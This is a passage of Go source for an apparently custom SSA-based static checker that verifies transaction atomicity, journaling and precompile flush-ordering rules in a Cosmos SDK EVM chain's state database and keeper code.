	r.Rule("R6", "PATH.out-of-gas-is-a-failure: every wired stateful precompile's Run defers the closure returned by HandleGasError with the address of Run's own named error result — the variable the function's recover path returns — so an SDK out-of-gas panic inside the precompile surfaces as vm.ErrOutOfGas and the frame's writes are handled as a failed frame (with an unnamed result the recovered panic turns into a successful call with empty output whose Cosmos-side effects stay)")
	r.Rule("R4", "PATH.journal-discipline: in x/evm/statedb every write to revertible state (stateObject.account/code/dirtyCode/dirtyStorage/suicided, StateDB.stateObjects/logs/refund/accessList) happens in a constructor, in a JournalEntry.Revert, after a journal.append in the same function, or in a raw setter all of whose callers satisfy the same; each entry's Revert reads its own recorded fields")

	// ---------- R1 ----------
	jeT := P.LookupType(statedbPkg, "JournalEntry")
	var entries []*types.Named
	if jeT == nil {
		r.Bad("R1", "anchor/JournalEntry", "", "statedb.JournalEntry interface not found")
	} else {
		je := jeT.Type().Underlying().(*types.Interface)
		sc := P.PkgBy[statedbPkg].Types.Scope()
		for _, n := range sc.Names() {
			tn, ok := sc.Lookup(n).(*types.TypeName)
			if !ok {
				continue
			}
			nt, ok := tn.Type().(*types.Named)
			if !ok {
				continue
			}
			if _, isI := nt.Underlying().(*types.Interface); isI {
				continue
			}
			if types.Implements(nt, je) || types.Implements(types.NewPointer(nt), je) {
				entries = append(entries, nt)
			}
		}
	}
	r.Floor("R1", "journal entry kinds", len(entries), 11)
	var ctxRestoring []string
	for _, nt := range entries {
		for _, pre := range []string{"(x/evm/statedb." + nt.Obj().Name() + ").Revert", "(*x/evm/statedb." + nt.Obj().Name() + ").Revert"} {
			fn, ok := P.FnOK(pre)
			if !ok || fn.Synthetic != "" {
				continue
			}
			restores := false
			eachInstr(fn, func(in ssa.Instruction) {
				switch x := in.(type) {
				case *ssa.Store:
					if sn, f, ok := fieldOfAddr(x.Addr); ok && sn == "StateDB" && (f == "ctx" || f == "cacheCtx") {
						restores = true
					}
				case ssa.CallInstruction:
					ci := callInfo(x)
					if strings.Contains(ci.PkgPath, "cosmos-sdk/store") && (ci.Name == "Restore" || ci.Name == "RevertToSnapshot" || ci.Name == "Write") {
						restores = true
					}
					if ci.Recv == "StateDB" && (ci.Name == "RevertMultiStore" || ci.Name == "revertMultiStore" || ci.Name == "RestoreContext") {
						restores = true
					}
				}
			})
			if restores {
				ctxRestoring = append(ctxRestoring, nt.Obj().Name())
			}
		}
	}
	models := wiredPrecompiles(r)
	nEff := 0
	for _, m := range models {
		if !m.Stateful {
			continue
		}
		hasEffect := false
		for _, h := range m.Handlers {
			if h.Fn != nil && len(effectSites(h.Fn, 3, map[*ssa.Function]bool{})) > 0 {
				hasEffect = true
			}
		}
		if !hasEffect {
			continue
		}
		nEff++
		inst := m.Rel + "#revertible-context"
		where := P.Pos(fnPos(m.Run))
		if len(ctxRestoring) == 0 {
			r.Bad("R1", inst, where, fmt.Sprintf("none of the %d journal entry kinds restores SDK-side state on Revert, and Run writes through stateDB.GetContext(): if the calling frame later reverts (or runs out of gas) while an outer frame continues, the Cosmos-side effects of this precompile (delegations, reward withdrawals, transfers, grants) persist although the EVM state of the frame is rolled back", len(entries)))
			continue
		}
		// an entry exists: Run must append it (directly or via a helper whose every path appends) before dispatch
		isAppend := isCallMatching(func(ci CallInfo) bool {
			if ci.Static == nil {
				return false
			}
			found := false
			for _, f := range withAnon(ci.Static) {
				eachInstr(f, func(in ssa.Instruction) {
					if mi, ok := in.(*ssa.MakeInterface); ok {
						for _, n := range ctxRestoring {
							if namedName(mi.X.Type()) == n {
								found = true
							}
						}
					}
				})
			}
			return found
		})
		isTxHandler := func(in ssa.Instruction) bool {
			for _, h := range m.Handlers {
				if h.IsTx && h.Call != nil && ssa.Instruction(h.Call) == in {
					return true
				}
			}
			return false
		}
		w := Precedes(m.Run, isAppend, isTxHandler, nil)
		r.Check(w == nil, "R1", inst, where, "a context-restoring journal entry is registered before every transaction handler", "a transaction handler is reachable in Run without first registering a journal entry that restores the SDK context", P.witness(w)...)
	}
	r.Floor("R1", "wired precompiles with Cosmos-side effects", nEff, 3)

	// ---------- R2 ----------
	if at, ok := P.FnOK("(*x/evm/keeper.Keeper).ApplyTransaction"); ok {
		where := P.Pos(fnPos(at))
		var cache *ssa.Call
		eachCall(at, func(ci CallInfo) {
			if ci.Name == "CacheContext" {
				if c, ok := ci.Instr.(*ssa.Call); ok {
					cache = c
				}
			}
		})
		if cache == nil {
			r.Bad("R2", fnID(at)+"#cache-context", where, "ApplyTransaction no longer creates a cache context for the message and the hooks")
		} else {
			fromCache := func(v ssa.Value, idx int) bool {
				return backSlice(v).Any(func(x ssa.Value) bool {
					e, ok := x.(*ssa.Extract)
					return ok && e.Tuple == ssa.Value(cache) && e.Index == idx
				})
			}
			var hookCall, applyCall ssa.CallInstruction
			eachCall(at, func(ci CallInfo) {
				switch ci.Name {
				case "ApplyMessageWithConfig":
					applyCall = ci.Instr
				case "PostTxProcessing":
					hookCall = ci.Instr
				}
			})
			if applyCall == nil || hookCall == nil {
				r.Bad("R2", fnID(at)+"#calls", where, "ApplyMessageWithConfig / PostTxProcessing call not found in ApplyTransaction")
			} else {
				// the cache context is created on every path to the message, except over the edge on which k.hooks == nil
				_, hooksNil := guardPassEdges(at, func(cond ssa.Value) (bool, bool) {
					b, ok := cond.(*ssa.BinOp)
					if !ok || (b.Op != token.NEQ && b.Op != token.EQL) || !isNilConst(b.Y) {
						return false, false
					}
					if !backSlice(b.X).HasField("Keeper", "hooks") {
						return false, false
					}
					return b.Op == token.NEQ, true
				})
				isCache := func(in ssa.Instruction) bool { return in == ssa.Instruction(cache) }
				wc := PathQuery{Fn: at, Block: isCache, Target: func(in ssa.Instruction) bool { return in == ssa.Instruction(applyCall) }, DelEdge: edgeSet(hooksNil)}.Search()
				r.Check(wc == nil, "R2", fnID(at)+"#cache-ctx-always", P.Pos(instrPos(applyCall)), "CacheContext() precedes the message on every path except hooks == nil (which R3 excludes)",
					"the message can be executed without the whole-transaction cache context for a reason other than `k.hooks == nil`: a transaction that fails later keeps the Cosmos-side writes its precompile calls made", P.witness(wc)...)
				r.Check(fromCache(argN(applyCall, 0), 0), "R2", fnID(at)+"#message-on-cache-ctx", P.Pos(instrPos(applyCall)), "message executes on the cache context", "ApplyMessageWithConfig does not receive the context returned by CacheContext(): a failed transaction's writes land in the committed context")
				r.Check(fromCache(argN(hookCall, 0), 0), "R2", fnID(at)+"#hooks-on-cache-ctx", P.Pos(instrPos(hookCall)), "hooks execute on the cache context", "PostTxProcessing does not receive the cache context: a failing hook cannot be rolled back together with the transaction")
				// commit() call sites: dynamic calls whose callee value derives from Extract #1
				var commits []ssa.CallInstruction
				eachInstr(at, func(in ssa.Instruction) {
					c, ok := in.(ssa.CallInstruction)
					if !ok || c.Common().IsInvoke() || c.Common().StaticCallee() != nil {
						return
					}
					if fromCache(c.Common().Value, 1) {
						commits = append(commits, c)
					}
				})
				r.Floor("R2", "commit() call sites in ApplyTransaction", len(commits), 1)
				isCommit := func(in ssa.Instruction) bool {
					for _, c := range commits {
						if ssa.Instruction(c) == in {
							return true
						}
					}
					return false
				}
				// edges on which res.Failed() is false
				var notFailed, hookOK, commitNil []Edge
				for _, b := range at.Blocks {
					ifi, ok := lastIf(b)
					if !ok {
						continue
					}
					cond, neg := ifi.Cond, false
					for {
						if u, ok := cond.(*ssa.UnOp); ok && u.Op == token.NOT {
							neg, cond = !neg, u.X
							continue
						}
						break
					}
					if c, ok := cond.(*ssa.Call); ok && callInfo(c).Name == "Failed" {
						// cond true ⇒ failed (unless negated)
						if neg {
							notFailed = append(notFailed, Edge{b, 0})
						} else {
							notFailed = append(notFailed, Edge{b, 1})
						}
					}
					if bo, ok := cond.(*ssa.BinOp); ok && (isNilConst(bo.X) || isNilConst(bo.Y)) {
						other := bo.X
						if isNilConst(bo.X) {
							other = bo.Y
						}
						eqNilEdge := 0
						if (bo.Op == token.NEQ) != neg {
							eqNilEdge = 1
						}
						if bo.Op == token.NEQ || bo.Op == token.EQL {
							if e := errResultOf(hookCall); e != nil && stripValue(other) == e {
								hookOK = append(hookOK, Edge{b, eqNilEdge})
							}
							if fromCache(other, 1) {
								commitNil = append(commitNil, Edge{b, eqNilEdge})
							}
						}
					}
				}
				r.Floor("R2", "res.Failed() guards", len(notFailed), 1)
				r.Floor("R2", "hook-error guards", len(hookOK), 1)
				w := PathQuery{Fn: at, Target: isCommit, DelEdge: edgeSet(notFailed)}.Search()
				r.Check(w == nil, "R2", fnID(at)+"#commit-only-if-not-failed", where, "commit() reachable only where res.Failed() is false", "the cache context can be committed although the EVM execution failed: a failed transaction would change state", P.witness(w)...)
				w = PathQuery{Fn: at, Target: isCommit, DelEdge: edgeSet(hookOK)}.Search()
				r.Check(w == nil, "R2", fnID(at)+"#commit-only-if-hooks-ok", where, "commit() reachable only where the hook error is nil", "the cache context can be committed although PostTxProcessing failed", P.witness(w)...)
				// on the hook-ok edge commit must follow unless commit == nil
				for _, e := range hookOK {
					tb := e.From.Succs[e.Succ]
					w := PathQuery{Fn: at, StartBlock: tb, Block: isCommit, Target: func(in ssa.Instruction) bool { _, ok := in.(*ssa.Return); return ok }, DelEdge: edgeSet(commitNil)}.Search()
					r.Check(w == nil, "R2", fnID(at)+"#commit-on-success", where, "a successful transaction always commits its cache context", "a successful transaction with successful hooks can return without committing the cache context (its effects would be dropped)", P.witness(w)...)
				}
			}
		}
	} else {
		r.Bad("R2", "anchor/ApplyTransaction", "", "(*x/evm/keeper.Keeper).ApplyTransaction not found")
	}

	// ---------- R3 ----------
	if nh, ok := P.FnOK("app.NewHaqq"); ok {
		n, okHooks := 0, false
		eachCall(nh, func(ci CallInfo) {
			if ci.Name == "SetHooks" && pathHasSuffix(ci.PkgPath, haqqMod+"/x/evm/keeper") {
				n++
				// argument comes from NewMultiEvmHooks(variadic of len >= 1)
				sl := backSlice(argN(ci.Instr, 0))
				sl.Any(func(v ssa.Value) bool {
					c, ok := v.(*ssa.Call)
					if !ok || callInfo(c).Name != "NewMultiEvmHooks" {
						return false
					}
					if len(c.Call.Args) == 1 {
						if s, ok := c.Call.Args[0].(*ssa.Slice); ok {
							if al, ok := s.X.(*ssa.Alloc); ok {
								if arr, ok := al.Type().(*types.Pointer).Elem().(*types.Array); ok && arr.Len() >= 1 {
									okHooks = true
								}
							}
						}
					}
					return false
				})
			}
		})
		r.Check(n >= 1 && okHooks, "R3", "app.NewHaqq#evm-hooks", P.Pos(fnPos(nh)), "EVM hooks installed with at least one hook", "NewHaqq does not install non-empty EVM hooks: ApplyTransaction would run the message directly on the committed context (no rollback of a failed transaction's precompile writes)")
	}

	// ---------- R4 ----------
	journalDiscipline(r, entries)
	oogIsFailure(r)
	effectIsFirstWrite(r)
	flushAfterValidation(r)
	handlerRunsOnBranch(r)
	flushSurvivesRevert(r)
	uncommittedRunsOnBranch(r)
	flushIsAllOrNothing(r)
	flushKeepsSelfDestructed(r)

	// ---------- R5 ----------
	r.Rule("R5", "PATH.flush-skip: StateDB.Commit runs in the middle of a transaction (before every precompile dispatch), so 'nothing to write' for a dirty slot is judged against what an earlier flush of this transaction wrote (transientStorage) whenever such a value exists, and against the originally loaded value only when it does not: the comparison with originStorage is reachable only over the not-found edge of the transientStorage lookup, and each SetState is followed by recording the value in transientStorage — otherwise a slot flushed inside a frame that later reverts keeps the reverted value in the store")
	if cm, ok := commitBodyFn(P); ok {
		var notFound []Edge
		var originCmp []ssa.Instruction
		var bodyStart []*ssa.BasicBlock
		for _, b := range cm.Blocks {
			for _, in := range b.Instrs {
				if l, ok := in.(*ssa.Lookup); ok {
					if _, f, ok := fieldOfAddr(addrOfLoad(l.X)); ok && f == "dirtyStorage" {
						bodyStart = append(bodyStart, b)
					}
				}
			}
			ifi, ok := lastIf(b)
			if !ok {
				continue
			}
			cond, neg := ifi.Cond, false
			for {
				u, ok := cond.(*ssa.UnOp)
				if !ok || u.Op != token.NOT {
					break
				}
				cond, neg = u.X, !neg
			}
			if e, ok := cond.(*ssa.Extract); ok && e.Index == 1 {
				if l, ok := e.Tuple.(*ssa.Lookup); ok && l.CommaOk {
					if _, f, ok := fieldOfAddr(addrOfLoad(l.X)); ok && f == "transientStorage" {
						if neg {
							notFound = append(notFound, Edge{b, 0})
						} else {
							notFound = append(notFound, Edge{b, 1})
						}
					}
				}
			}
			if bo, ok := cond.(*ssa.BinOp); ok && (bo.Op == token.EQL || bo.Op == token.NEQ) {
				fromOrigin := func(v ssa.Value) bool {
					return backSlice(v).Any(func(x ssa.Value) bool {
						l, ok := x.(*ssa.Lookup)
						if !ok {
							return false
						}
						_, f, ok := fieldOfAddr(addrOfLoad(l.X))
						return ok && f == "originStorage"
					})
				}
				if fromOrigin(bo.X) || fromOrigin(bo.Y) {
					originCmp = append(originCmp, ifi)
				}
			}
		}
		okSkip := len(notFound) > 0 && len(originCmp) > 0 && len(bodyStart) > 0
		var wit []string
		for _, sb := range bodyStart {
			w := PathQuery{Fn: cm, StartBlock: sb, Target: func(in ssa.Instruction) bool {
				for _, oc := range originCmp {
					if in == oc {
						return true
					}
				}
				return false
			}, DelEdge: edgeSet(notFound)}.Search()
			if w != nil {
				okSkip = false
				wit = P.witness(w)
			}
		}
		r.Check(okSkip, "R5", commitInstID+"#origin-compared-only-when-never-flushed", P.Pos(fnPos(cm)), "dirty == origin is consulted only when the slot was not flushed earlier in this transaction",
			"StateDB.Commit can decide 'nothing to write' by comparing the dirty value with the originally loaded value although an earlier flush of this transaction already wrote another value: SSTORE in a frame, precompile call (flush), frame reverts — the final commit skips the write-back and the reverted value stays in the store", wit...)
		// every SetState is followed by the transientStorage update
		isSetState := isCallMatching(func(ci CallInfo) bool { return ci.Name == "SetState" && ci.Invoke })
		isRec := func(in ssa.Instruction) bool {
			mu, ok := in.(*ssa.MapUpdate)
			if !ok {
				return false
			}
			_, f, ok := fieldOfAddr(addrOfLoad(mu.Map))
			return ok && f == "transientStorage"
		}
		// … directly, or by appending (key, value) to a list that a later loop copies into transientStorage (the record is
		// then made once the whole flush has been written)
		listAppends := map[ssa.Instruction]bool{}
		eachInstr(cm, func(in ssa.Instruction) {
			if mu, ok := in.(*ssa.MapUpdate); ok && isRec(in) {
				backSlice(mu.Key, mu.Value).Any(func(v ssa.Value) bool {
					if c, ok := v.(*ssa.Call); ok {
						if b, ok := c.Call.Value.(*ssa.Builtin); ok && b.Name() == "append" {
							listAppends[c] = true
						}
					}
					return false
				})
			}
		})
		isRecDirect := isRec
		isRec = func(in ssa.Instruction) bool { return isRecDirect(in) || listAppends[in] }
		nSS := 0
		eachInstr(cm, func(in ssa.Instruction) {
			if !isSetState(in) {
				return
			}
			nSS++
			lb := in.Block()
			w := PathQuery{Fn: cm, Start: in, Block: isRec, Target: func(x ssa.Instruction) bool {
				if _, ok := x.(*ssa.Return); ok {
					return true
				}
				b := x.Block()
				return x == b.Instrs[0] && b != lb && isLoopHeader(b) && dominates(b, lb)
			}}.Search()
			r.Check(w == nil, "R5", fmt.Sprintf("%s#flushed-value-recorded-%d", commitInstID, nSS), P.Pos(instrPos(in)), "SetState is followed by transientStorage[key] = value (or by queueing the pair for the loop that records it)", "a flushed storage value is not recorded in transientStorage: a later Commit of the same transaction compares against the stale original value and skips or repeats writes", P.witness(w)...)
		})
		r.Floor("R5", "SetState calls in StateDB.Commit", nSS, 1)
	} else {
		r.Bad("R5", "anchor/StateDB.Commit", "", "not found")
	}
}

var revertibleObjFields = map[string]bool{"account": true, "code": true, "dirtyCode": true, "dirtyStorage": true, "suicided": true}
var revertibleDBFields = map[string]bool{"stateObjects": true, "logs": true, "refund": true, "accessList": true}
var statedbConstructors = map[string]bool{"New": true, "newObject": true, "newAccessList": true, "newJournal": true, "Copy": true, "NewEmptyAccount": true}

// revertibleWrite: does instruction in write revertible state? returns a label.
func revertibleWrite(in ssa.Instruction) (string, bool) {
	check := func(addr ssa.Value) (string, bool) {
		for a := addr; a != nil; {
			if sn, f, ok := fieldOfAddr(a); ok {
				if sn == "stateObject" && revertibleObjFields[f] {
					return "stateObject." + f, true
				}
				if sn == "StateDB" && revertibleDBFields[f] {
					return "StateDB." + f, true
				}
			}
			switch x := a.(type) {
			case *ssa.FieldAddr:
				a = x.X
			case *ssa.IndexAddr:
				a = x.X
			case *ssa.UnOp:
				a = x.X
			default:
				a = nil
			}
		}
		return "", false
	}
	switch x := in.(type) {
	case *ssa.Store:
		return check(x.Addr)
	case *ssa.MapUpdate:
		return check(x.Map)
	case ssa.CallInstruction:
		ci := callInfo(x)
		if ci.Recv == "accessList" && (ci.Name == "AddAddress" || ci.Name == "AddSlot" || ci.Name == "DeleteSlot" || ci.Name == "DeleteAddress") {
			return "accessList." + ci.Name, true
		}
		if ci.Builtin == "delete" && len(x.Common().Args) > 0 {
			return check(x.Common().Args[0])
		}
	}
	return "", false
}

// effectIsFirstWrite (C05 R7): a spend handler that fails has written nothing.
func effectIsFirstWrite(r *Run) {
	P := r.P
	r.Rule("R7", "PATH.effect-is-the-first-write: in every transaction handler of a wired stateful precompile that has a Cosmos-side effect other than grant bookkeeping, no call that writes an authz grant (SaveGrant/DeleteGrant, directly or through UpdateStakingAuthorization / UpdateGrantIfNeeded-like helpers) can precede the effect — the message server is what can fail (balance, validator, channel), precompile writes are not journalled, and a failure the calling contract swallows keeps whatever was written before it: an allowance consumed before the effect is lost without the spend")
	n := 0
	for _, m := range wiredPrecompiles(r) {
		if !m.Stateful {
			continue
		}
		for _, h := range m.Handlers {
			if h.Fn == nil || !h.IsTx {
				continue
			}
			kind, sites := classifyHandler(h)
			if kind != hkSpend {
				continue
			}
			var grants, effects []effectSite
			for _, s := range sites {
				if s.Call.Parent() != h.Fn {
					continue
				}
				if isAuthzGrantWrite(s.Info) {
					grants = append(grants, s)
				} else {
					effects = append(effects, s)
				}
			}
			if len(grants) == 0 {
				continue
			}
			n++
			var w []ssa.Instruction
			what := ""
			for _, g := range grants {
				for _, e := range effects {
					if g.Call == e.Call {
						continue
					}
					ec := e.Call
					if p := (PathQuery{Fn: h.Fn, Start: g.Call, Target: func(in ssa.Instruction) bool { return in == ssa.Instruction(ec) }}).Search(); p != nil && w == nil {
						w = p
						what = callInfo(g.Call).Name + " before " + e.Info.String()
					}
				}
			}
			r.Check(w == nil, "R7", fnID(h.Fn)+"#effect-is-the-first-write", P.Pos(fnPos(h.Fn)), "no grant write precedes the fallible effect",
				"a grant is written before the Cosmos-side effect ("+what+"): when the effect then fails and the calling contract swallows the failure, the consumed allowance stays consumed although nothing was spent", P.witness(w)...)
		}
	}
	r.Floor("R7", "spend handlers that also write grants", n, 5)
}

// flushAfterValidation (C05 R8): pending EVM state is written out only for a call that will be dispatched.
func flushAfterValidation(r *Run) {
	P := r.P
	r.Rule("R8", "PATH.nothing-flushed-before-validation: a stateful precompile writes the pending EVM state to the SDK context (StateDB.Commit) before it dispatches — but only then: RunSetup (method lookup, write protection of read-only frames, argument decoding) and the functions it calls never flush, and in every Run the flush is reachable only after RunSetup returned without error. A call that is rejected in set-up must leave the journal-tracked state unflushed, otherwise the writes of a frame that reverts afterwards are already in the store and the revert drops them from the dirty set (they are never rewritten)")
	isCommit := isCallMatching(func(ci CallInfo) bool { return isFlushCall(ci) })
	if rs, ok := P.FnOK("(precompiles/common.Precompile).RunSetup"); ok {
		bad := ""
		for fn := range moduleReach(P, rs, 3) {
			for _, f := range withAnon(fn) {
				eachInstr(f, func(in ssa.Instruction) {
					if isCommit(in) && bad == "" {
						bad = fnID(f) + " at " + P.Pos(instrPos(in))
					}
				})
			}
		}
		r.Check(bad == "", "R8", fnID(rs)+"#never-flushes", P.Pos(fnPos(rs)), "no StateDB.Commit in RunSetup or below it",
			"the shared set-up flushes the pending EVM state ("+bad+") before the call is validated: a call rejected for an unknown selector, write protection or undecodable arguments has already written the frame's state out")
	} else {
		r.Bad("R8", "anchor/RunSetup", "", "not found")
	}
	n := 0
	for _, m := range wiredPrecompiles(r) {
		if !m.Stateful || m.Run == nil {
			continue
		}
		var setup ssa.CallInstruction
		eachCall(m.Run, func(ci CallInfo) {
			if ci.Name == "RunSetup" {
				setup = ci.Instr
			}
		})
		nCommit := len(findCalls(m.Run, func(ci CallInfo) bool { return isFlushCall(ci) }))
		if nCommit == 0 {
			continue // C02 R2 requires the flush; nothing to order here
		}
		n++
		if setup == nil {
			r.Bad("R8", fnID(m.Run)+"#flush-after-setup", P.Pos(fnPos(m.Run)), "Run flushes without having called RunSetup")
			continue
		}
		w1 := PathQuery{Fn: m.Run, Block: func(in ssa.Instruction) bool { return in == ssa.Instruction(setup) }, Target: isCommit}.Search()
		var w2 []ssa.Instruction
		for _, e := range errEdges(setup) {
			if p := (PathQuery{Fn: m.Run, StartBlock: e.From.Succs[e.Succ], Target: isCommit}).Search(); p != nil {
				w2 = p
			}
		}
		r.Check(w1 == nil && w2 == nil && errHandled(setup), "R8", fnID(m.Run)+"#flush-after-setup", P.Pos(fnPos(m.Run)), "Commit only after RunSetup succeeded",
			"Run can flush the pending EVM state without RunSetup having accepted the call", P.witness(append(w1, w2...))...)
	}
	r.Floor("R8", "stateful precompile Run methods that flush", n, 3)
}

// handlerRunsOnBranch (C05 R9): a failed precompile call leaves no Cosmos-side write.
func handlerRunsOnBranch(r *Run) {
	P := r.P
	r.Rule("R9", "PATH.failed-call-leaves-no-writes: the SDK's message servers are not atomic on their own (hooks run before the bank move, reference counts change before payouts), and a precompile call can fail half way — an error, or out of gas at a point the caller chooses with call{gas: g}. In every Run of a wired precompile with Cosmos-side effects the handlers receive a context obtained from CacheContext(); the write function of that branch is called on every success exit and is not reachable on any path to a failure exit — so a failed call that the calling contract tolerates commits nothing of the torn message")
	n := 0
	for _, m := range wiredPrecompiles(r) {
		if !m.Stateful || m.Run == nil {
			continue
		}
		hasEffect := false
		for _, h := range m.Handlers {
			if h.Fn != nil && h.IsTx && len(effectSites(h.Fn, 3, map[*ssa.Function]bool{})) > 0 {
				hasEffect = true
			}
		}
		if !hasEffect {
			continue
		}
		n++
		var cache *ssa.Call
		eachInstr(m.Run, func(in ssa.Instruction) {
			if c, ok := in.(*ssa.Call); ok && callInfo(c).Name == "CacheContext" {
				cache = c
			}
		})
		inst := fnID(m.Run) + "#handlers-run-on-a-branch"
		if cache == nil {
			r.Bad("R9", inst, P.Pos(fnPos(m.Run)), "Run dispatches its handlers on the transaction's own context (no CacheContext): whatever a handler wrote before it failed — a hook's reference-count update, a debit without its credit — stays when the calling contract swallows the failure")
			continue
		}
		isBranchCtx := func(v ssa.Value) bool {
			ok := false
			backSlice(v).Any(func(x ssa.Value) bool {
				if ex, isE := x.(*ssa.Extract); isE && ex.Tuple == ssa.Value(cache) && ex.Index == 0 {
					ok = true
				}
				return ok
			})
			return ok
		}
		bad := ""
		for _, h := range m.Handlers {
			if h.Call == nil {
				continue
			}
			okCtx := false
			for _, a := range h.Call.Common().Args {
				if namedName(a.Type()) == "Context" && isBranchCtx(a) {
					okCtx = true
				}
			}
			if !okCtx && bad == "" {
				bad = "handler of " + h.Method + " is not given the branch context"
			}
		}
		isWrite := func(in ssa.Instruction) bool {
			c, ok := in.(ssa.CallInstruction)
			if !ok {
				return false
			}
			ex, isE := c.Common().Value.(*ssa.Extract)
			return isE && ex.Tuple == ssa.Value(cache) && ex.Index == 1
		}
		w1 := PathQuery{Fn: m.Run, Start: cache, Block: isWrite, Target: func(x ssa.Instruction) bool {
			ret, ok := x.(*ssa.Return)
			return ok && classifyExit(ret) == ExitSuccess
		}}.Search()
		var w2 []ssa.Instruction
		eachInstr(m.Run, func(in ssa.Instruction) {
			if isWrite(in) && w2 == nil {
				w2 = PathQuery{Fn: m.Run, Start: in, Target: func(x ssa.Instruction) bool {
					ret, ok := x.(*ssa.Return)
					return ok && classifyExit(ret) == ExitFailure
				}}.Search()
			}
		})
		r.Check(bad == "" && w1 == nil && w2 == nil, "R9", inst, P.Pos(fnPos(m.Run)), "handlers get the CacheContext branch; it is written on every success exit and on no failure path",
			"the precompile's Run does not confine its handlers to a state branch that is written only on success ("+bad+"): a failed call can leave part of an SDK message in the store", P.witness(append(w1, w2...))...)
	}
	r.Floor("R9", "wired precompiles with Cosmos-side effects", n, 3)
	// the token precompiles (erc20, werc20) are instantiated per token pair, not through the static registry, and
	// dispatch through HandleMethod: the same obligation, stated on their Run directly
	wired := map[string]bool{}
	for _, m := range wiredPrecompiles(r) {
		wired[m.Pkg] = true
	}
	n2 := 0
	for _, fn := range P.Funcs {
		if fn.Name() != "Run" || fn.Signature.Recv() == nil || !strings.Contains(fnPkgPath(fn), "/precompiles/") || wired[fnPkgPath(fn)] || fn.Synthetic != "" || isTestSupport(P, fn) {
			continue
		}
		if len(effectSites(fn, 5, map[*ssa.Function]bool{})) == 0 {
			continue
		}
		n2++
		inst := fnID(fn) + "#handlers-run-on-a-branch"
		var cache *ssa.Call
		eachInstr(fn, func(in ssa.Instruction) {
			if c, ok := in.(*ssa.Call); ok && callInfo(c).Name == "CacheContext" {
				cache = c
			}
		})
		if cache == nil {
			r.Bad("R9", inst, P.Pos(fnPos(fn)), "Run dispatches its methods on the transaction's own context (no CacheContext): what a method wrote before it failed — transferFrom's reduced or deleted allowance, written before the bank send — stays when the calling contract swallows the failure")
			continue
		}
		bad := ""
		eachCall(fn, func(ci CallInfo) {
			if ci.Static == nil || !strings.Contains(fnPkgPath(ci.Static), "/precompiles/") || len(effectSites(ci.Static, 4, map[*ssa.Function]bool{})) == 0 {
				return
			}
			okCtx := false
			for _, a := range ci.Instr.Common().Args {
				if namedName(a.Type()) != "Context" {
					continue
				}
				backSlice(a).Any(func(x ssa.Value) bool {
					if ex, isE := x.(*ssa.Extract); isE && ex.Tuple == ssa.Value(cache) && ex.Index == 0 {
						okCtx = true
					}
					return okCtx
				})
			}
			if !okCtx && bad == "" {
				bad = ci.Name + " is not given the branch context"
			}
		})
		isWrite := func(in ssa.Instruction) bool {
			c, ok := in.(ssa.CallInstruction)
			if !ok {
				return false
			}
			ex, isE := c.Common().Value.(*ssa.Extract)
			return isE && ex.Tuple == ssa.Value(cache) && ex.Index == 1
		}
		w1 := PathQuery{Fn: fn, Start: cache, Block: isWrite, Target: func(x ssa.Instruction) bool {
			ret, ok := x.(*ssa.Return)
			return ok && classifyExit(ret) == ExitSuccess
		}}.Search()
		var w2 []ssa.Instruction
		eachInstr(fn, func(in ssa.Instruction) {
			if isWrite(in) && w2 == nil {
				w2 = PathQuery{Fn: fn, Start: in, Target: func(x ssa.Instruction) bool {
					ret, ok := x.(*ssa.Return)
					return ok && classifyExit(ret) == ExitFailure
				}}.Search()
			}
		})
		r.Check(bad == "" && w1 == nil && w2 == nil, "R9", inst, P.Pos(fnPos(fn)), "methods get the CacheContext branch; it is written on every success exit and on no failure path",
			"the precompile's Run does not confine its methods to a state branch that is written only on success ("+bad+"): a failed call can leave part of an SDK message (a consumed allowance without the transfer) in the store", P.witness(append(w1, w2...))...)
	}
	r.Floor("R9", "per-token precompiles with Cosmos-side effects", n2, 2)
}

// flushSurvivesRevert (C05 R10): what a mid-transaction Commit wrote is rewritten by the next Commit.
func flushSurvivesRevert(r *Run) {
	P := r.P
	r.Rule("R10", "FLOW.flush-survives-revert: every stateful precompile flushes the StateDB into the SDK context before it runs (StateDB.Commit in the middle of a transaction; queries included). Commit writes the journal-dirty addresses only, and reverting a frame removes an address from the dirty set when all its changes were made inside that frame. So StateDB.Commit must remember the addresses it wrote (a container held by the StateDB, updated in Commit) and iterate them again next time, whatever the journal says — otherwise the writes of a frame that called any precompile and then reverted stay in the store: storage and payments of a reverted frame are permanent, and an account that is still dirty for another reason is 'restored' by minting")
	cm, ok := commitBodyFn(P)
	if !ok {
		r.Bad("R10", "anchor/StateDB.Commit", "", "not found")
		return
	}
	// is Commit ever called mid-transaction? (precompile Run methods)
	mid := 0
	for _, m := range wiredPrecompiles(r) {
		if m.Run != nil && len(findCalls(m.Run, func(ci CallInfo) bool { return isFlushCall(ci) })) > 0 {
			mid++
		}
	}
	if mid == 0 {
		r.OK("R10", commitInstID+"#flush-survives-revert", P.Pos(fnPos(cm)), "no precompile flushes mid-transaction")
		return
	}
	// fields of StateDB that Commit updates with a map insert / append (what it remembers) …
	remembered := map[string]bool{}
	eachInstr(cm, func(in ssa.Instruction) {
		switch x := in.(type) {
		case *ssa.MapUpdate:
			if u, ok := x.Map.(*ssa.UnOp); ok {
				if sn, f, ok := fieldOfAddr(u.X); ok && sn == "StateDB" {
					remembered[f] = true
				}
			}
		case *ssa.Store:
			if sn, f, ok := fieldOfAddr(x.Addr); ok && sn == "StateDB" {
				if c, isC := x.Val.(*ssa.Call); isC {
					if b, isB := c.Call.Value.(*ssa.Builtin); isB && b.Name() == "append" {
						remembered[f] = true
					}
				}
			}
		}
	})
	// … and that the set of addresses it iterates depends on
	iterates := false
	eachInstr(cm, func(in ssa.Instruction) {
		c, ok := in.(*ssa.Call)
		if !ok || callInfo(c).Name != "sortedDirties" {
			return
		}
		sl := backSlice(c.Call.Args...)
		for f := range remembered {
			if sl.HasField("StateDB", f) {
				iterates = true
			}
		}
	})
	r.Check(iterates, "R10", commitInstID+"#flush-survives-revert", P.Pos(fnPos(cm)), "Commit re-visits the addresses earlier Commits wrote",
		fmt.Sprintf("%d precompile Run method(s) flush the StateDB mid-transaction, but Commit iterates the journal's dirty set only and remembers nothing of what it wrote: a frame that writes state, calls any precompile (a query suffices) and reverts leaves its writes in the store — demonstrated: sstore + payment in a reverted frame persist and the supply grows by the payment", mid))
}

// uncommittedRunsOnBranch (C05 R11): an execution that is not to be committed leaves nothing.
func uncommittedRunsOnBranch(r *Run) {
	P := r.P
